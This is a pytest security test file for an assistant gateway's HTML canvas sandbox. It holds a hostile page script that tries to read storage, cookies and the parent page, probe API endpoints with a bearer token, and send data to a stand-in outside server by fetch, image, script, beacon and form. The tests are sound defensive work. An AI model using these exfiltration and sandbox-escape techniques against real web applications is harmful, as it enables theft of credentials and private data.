"""Script in a page of the canvas reaches nothing of the gateway, of the control page or of the network (T10)."""

import json
import socket
import threading

import pytest
from support.home import TOKEN
from support.payloads import PAYLOADS

READY = "#connection[data-state=ready]"

# Everything here is tried by a hostile page of the canvas; what it got is in `window.loot`.
HOSTILE = """<!doctype html><meta charset="utf-8"><title>hostile</title><body><script>
window.loot = {};
const got = (name, value) => { window.loot[name] = String(value).slice(0, 300); };
const attempt = async (name, work) => {
  try { const value = await work(); if (value !== undefined) got(name, value); } catch (error) { /* as it should be */ }
};
const port = location.port, elsewhere = "ELSEWHERE";
const within = (promise, ms = 1500) => Promise.race([promise, new Promise((_, no) => setTimeout(() => no("late"), ms))]);
const text = async (url, options) => { const r = await within(fetch(url, options)); const t = await r.text(); return t || undefined; };
const socket = (url) => within(new Promise((yes, no) => { const s = new WebSocket(url); s.onopen = () => yes("open"); s.onerror = no; }));
const framed = (url) => within(new Promise((yes, no) => {
  const f = document.createElement("iframe"); f.src = url;
  f.onload = () => { try { f.contentDocument ? yes(f.contentDocument.title || undefined) : yes(undefined); } catch { yes(undefined); } };
  document.body.append(f);
}));
window.done = (async () => {
  await attempt("localStorage", () => JSON.stringify(localStorage));
  await attempt("sessionStorage", () => JSON.stringify(sessionStorage));
  await attempt("cookie", () => document.cookie || undefined);
  await attempt("indexedDB", () => within(new Promise((yes, no) => { const r = indexedDB.open("x"); r.onsuccess = () => yes("open"); r.onerror = no; })));
  await attempt("caches", () => caches.keys().then((k) => "caches " + k));
  await attempt("parent.localStorage", () => parent !== window ? JSON.stringify(parent.localStorage) : undefined);
  await attempt("parent.document", () => parent !== window ? parent.document.title : undefined);
  await attempt("top.token", () => top !== window ? JSON.stringify(Object.keys(top)) && top.jarvis : undefined);
  await attempt("frames", () => parent !== window ? parent.frames[0].parent.document.title : undefined);
  await attempt("origin", () => self.origin === "null" ? undefined : self.origin);
  for (const path of ["/", "/healthz", "/api/sessions", "/api/status", "/__jarvis/control-ui-config.json", "/v1/models", "/tools/invoke",
                      "/assets/app.js", "/__jarvis__/canvas/", "/__jarvis__/cap/" + "0".repeat(64) + "/", "/avatar/main"]) {
    for (const mode of ["cors", "no-cors", "same-origin"]) {
      for (const credentials of ["omit", "include"]) await attempt(`fetch ${mode} ${path}`, () => text(path, { mode, credentials }));
    }
    await attempt(`post ${path}`, () => text(path, { method: "POST", body: "{}", headers: { "Content-Type": "text/plain" } }));
    await attempt(`beacon ${path}`, () => navigator.sendBeacon(path, "x") ? undefined : undefined);
  }
  await attempt("bearer", () => text("/__jarvis__/canvas/", { headers: { Authorization: "Bearer TOKEN" } }));
  for (const path of ["/", "/ws", "/__jarvis__/ws", "/__jarvis__/canvas/", location.pathname, "/?oc_cap=" + location.pathname.split("/")[3]]) {
    await attempt(`socket ${path}`, () => socket(`ws://${location.host}${path}`));
  }
  for (const path of ["/", "/index.html", "/__jarvis__/canvas/"]) await attempt(`frame ${path}`, () => framed(path));
  await attempt("import", () => within(import("/assets/app.js")).then(() => "imported"));
  await attempt("worker", () => within(navigator.serviceWorker.register(location.pathname + "/sw.js")).then(() => "registered"));
  await attempt("popup", () => window.open("/") ? "opened" : undefined);
  await attempt("top", () => { if (top !== window) top.location = "about:blank#gone"; });
  await attempt("clipboard", () => within(navigator.clipboard.readText()).then((t) => "clipboard " + t));
  await attempt("camera", () => within(navigator.mediaDevices.getUserMedia({ video: true })).then(() => "camera"));
  await attempt("out fetch", () => text(`http://127.0.0.1:${elsewhere}/fetch`, { mode: "no-cors" }).then(() => "sent"));
  await attempt("out image", () => within(new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = `http://127.0.0.1:${elsewhere}/image`; })));
  await attempt("out script", () => within(new Promise((yes, no) => { const s = document.createElement("script"); s.onload = yes; s.onerror = no; s.src = `http://127.0.0.1:${elsewhere}/script`; document.body.append(s); })));
  await attempt("out style", () => { document.body.style.background = `url(http://127.0.0.1:${elsewhere}/style)`; });
  await attempt("out socket", () => socket(`ws://127.0.0.1:${elsewhere}/socket`));
  await attempt("out beacon", () => { navigator.sendBeacon(`http://127.0.0.1:${elsewhere}/beacon`, "x"); });
  await attempt("out form", () => { const f = document.createElement("form"); f.action = `http://127.0.0.1:${elsewhere}/form`; f.method = "post"; document.body.append(f); f.submit(); });
  await attempt("form", () => { const f = document.createElement("form"); f.action = "/"; f.method = "post"; document.body.append(f); f.submit(); });
  return JSON.stringify(window.loot);
})();
</script></body>
"""


@pytest.fixture(scope="module")
def elsewhere():
    """A server that nobody may reach; `.seen` is what came all the same."""
    class Elsewhere:
        def __init__(self):
            self.seen = []
            self.listener = socket.create_server(("127.0.0.1", 0))
            self.port = self.listener.getsockname()[1]
            threading.Thread(target=self.listen, daemon=True).start()

        def listen(self):
            while True:
                try:
                    connection, _ = self.listener.accept()
                except OSError:
                    return
                with connection:
                    connection.settimeout(1)
                    try:
                        if data := connection.recv(200):
                            self.seen.append(data.split(b"\r\n")[0].decode(errors="replace"))
                        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nAccess-Control-Allow-Origin: *\r\n\r\n")
                    except OSError:
                        pass

    server = Elsewhere()
    yield server
    server.listener.close()


def signed_in(canvas, new_page, **options):
    page = new_page(f"{canvas.gateway.origin}/#token={TOKEN}", **options)
    page.wait_for_selector(READY)
    return page


def hostile(elsewhere):
    return HOSTILE.replace("ELSEWHERE", str(elsewhere.port)).replace("Bearer TOKEN", "Bearer " + TOKEN)


def test_in_the_control_page_hostile_script_gets_nothing(canvas, new_page, elsewhere):
    page = signed_in(canvas, new_page, quiet=True)
    opened = []
    page.on("dialog", lambda dialog: (opened.append(dialog.message), dialog.dismiss()))
    page.context.on("page", lambda other: opened.append(other.url))
    address = page.url
    canvas.rpc.call("canvas.present", {"html": hostile(elsewhere), "path": "hostile.html"})
    loot = json.loads(canvas.rpc.call("canvas.eval", {"javaScript": "done", "timeoutMs": 60_000}, timeout=70)["result"])
    assert loot == {}
    assert opened == [] and elsewhere.seen == []
    assert page.url == address and page.evaluate("__trapped") == []
    assert page.locator(READY).count() == 1
    assert not [frame for frame in page.frames if frame.url.rstrip("/") == canvas.gateway.origin and frame != page.main_frame]
    canvas.rpc.call("canvas.hide")


def test_in_a_tab_of_its_own_hostile_script_gets_nothing(canvas, new_page, elsewhere):
    page = signed_in(canvas, new_page, quiet=True)
    tab = new_page(quiet=True, context=page.context)
    canvas.write("hostile.html", hostile(elsewhere))
    tab.goto(canvas.url("hostile.html"))
    assert json.loads(tab.evaluate("done")) == {}
    assert elsewhere.seen == []


def test_nobody_else_may_frame_the_canvas(canvas, new_page, elsewhere):
    canvas.write("framed.html", "<!doctype html><title>framed</title>")
    page = new_page(quiet=True)
    page.goto(f"http://127.0.0.1:{elsewhere.port}/")
    page.set_content(f'<iframe src="{canvas.url("framed.html")}"></iframe>')
    page.wait_for_function("() => document.querySelector('iframe').contentWindow !== null")
    page.wait_for_load_state()
    assert all("framed" != frame.title() for frame in page.frames[1:])


def test_the_bridge_hears_the_page_around_it_alone(canvas, new_page):
    """A page in a tab of its own has no page around it, and what it says to itself does nothing."""
    canvas.write("alone.html", "<!doctype html><title>alone</title>")
    tab = new_page(canvas.url("alone.html"))
    tab.evaluate("""() => {
      window.answers = [];
      addEventListener("message", (event) => event.data.type === "answer" && answers.push(event.data));
      postMessage({ jarvisCanvas: 1, id: "1", kind: "evaluate", code: "window.ran = true" }, "*");
    }""")
    tab.evaluate("() => new Promise((done) => setTimeout(done, 0))")
    assert tab.evaluate("window.ran") is None and tab.evaluate("answers") == []


def test_what_a_page_claims_is_only_text(canvas, new_page):
    """A page of the canvas may call itself what it likes, answer what nobody asked and answer with nonsense."""
    page = signed_in(canvas, new_page, quiet=True)
    titles = json.dumps(PAYLOADS).replace("</", "<\\/")
    canvas.rpc.call("canvas.present", {"path": "claims.html", "html": f"""<!doctype html><title>x</title><script>
      const names = {titles};
      for (const title of names) {{
        parent.postMessage({{ jarvisCanvas: 1, type: "ready", title, version: 1e9 }}, "*");
        parent.postMessage({{ jarvisCanvas: 1, type: "answer", id: title, ok: true, result: title }}, "*");
        parent.postMessage({{ jarvisCanvas: 1, type: title, text: title }}, "*");
        parent.postMessage({{ jarvisCanvas: title }}, "*");
        parent.postMessage(title, "*");
      }}
      parent.postMessage({{ jarvisCanvas: 1, type: "ready", title: {{ toString: 1 }}, version: "x" }}, "*");
      window.sent = true;
    </script>"""})
    assert canvas.rpc.call("canvas.eval", {"javaScript": "sent"})["result"] is True
    assert page.evaluate("__trapped") == []
    canvas.rpc.call("canvas.hide")


def test_payloads_as_names_stay_names(canvas, new_page):
    page = signed_in(canvas, new_page, quiet=True)
    canvas.rpc.call("canvas.present", {"html": "<!doctype html><p>names</p>", "path": "names.html"})
    for payload in PAYLOADS:
        canvas.rpc.call("canvas.present", {"path": "names.html", "title": payload})
    last = PAYLOADS[-1]
    page.wait_for_function("text => document.querySelector('#canvas-title').textContent === text", arg=last)
    for payload in PAYLOADS[:20]:
        name = payload.replace("/", "∕").replace("\\", "").replace("?", "").replace("#", "")[:80].strip(".\x01\n\t")
        if not name or any(ord(letter) < 0x20 for letter in name) or ":" in name:
            continue
        canvas.rpc.call("canvas.present", {"html": "<!doctype html><p>n</p>", "path": f"{name}.html"})
    assert canvas.rpc.call("canvas.eval", {"javaScript": "document.body.innerText"})["result"] == "n"
    assert page.evaluate("__trapped") == []
    canvas.rpc.call("canvas.hide")
